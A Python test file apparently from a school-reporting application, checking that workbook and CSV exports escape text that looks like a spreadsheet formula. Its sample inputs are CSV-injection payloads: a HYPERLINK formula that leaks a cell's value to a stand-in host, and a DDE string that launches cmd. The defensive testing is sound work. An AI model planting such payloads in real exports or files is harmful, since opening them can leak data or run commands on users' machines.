"""Exports a spreadsheet opens never run anything: a school name, term name or any other text
that starts like a formula (=, +, -, @, a tab or line break) is written as text in the
workbook and escaped with a leading apostrophe in CSV (OWASP's CSV injection advice).
Plain numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io

import openpyxl

from liaison.documents import safe_cells
from liaison.services import reporting as report
from liaison.services.reporting import tables as report_tables
from liaison.store.database import Database
from tests.report_data import build_known

EVIL_SCHOOL = '=HYPERLINK("http://example.org/x?"&A2,"Click for the figures")'
EVIL_TERM = "@SUM(1+1)*cmd|' /C calc'!A0"


def _evil_report(db: Database) -> report.Report:
    r = report.for_term(build_known(db).db, "Summer 2026")
    period = dataclasses.replace(r.period, name=EVIL_TERM)
    return dataclasses.replace(r, school_name=EVIL_SCHOOL, period=period)


def test_no_cell_of_the_workbook_is_a_formula(db: Database) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(report_tables.workbook_bytes(_evil_report(db))))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    summary = wb["Summary"]
    assert summary["A1"].value == EVIL_SCHOOL and summary["A1"].data_type == "s"
    # Text stays text if she edits the cell in Excel.
    assert summary["A1"].quotePrefix


def test_csv_text_that_looks_like_a_formula_is_escaped(db: Database) -> None:
    files = report_tables.csv_files(_evil_report(db))
    cells = [
        cell
        for data in files.values()
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))
        for cell in row
    ]
    assert f"'{EVIL_TERM}" in cells and EVIL_TERM not in cells
    for cell in cells:
        assert not cell.startswith(safe_cells.TRIGGERS) or safe_cells.is_number(cell), cell


def test_the_rule_on_single_cells() -> None:
    assert safe_cells.csv_cell("=1+1") == "'=1+1"
    assert safe_cells.csv_cell("+3 pts") == "'+3 pts"  # Excel showed #NAME? for it
    assert safe_cells.csv_cell("\t=cmd") == "'\t=cmd"
    assert safe_cells.csv_cell("＝1+1") == "'＝1+1"  # full-width, read as = in some locales
    assert safe_cells.csv_cell("-2") == "-2" and safe_cells.csv_cell("+1.5") == "+1.5"
    assert safe_cells.csv_cell("fewer than 5") == "fewer than 5"
    assert safe_cells.csv_cell(7) == 7
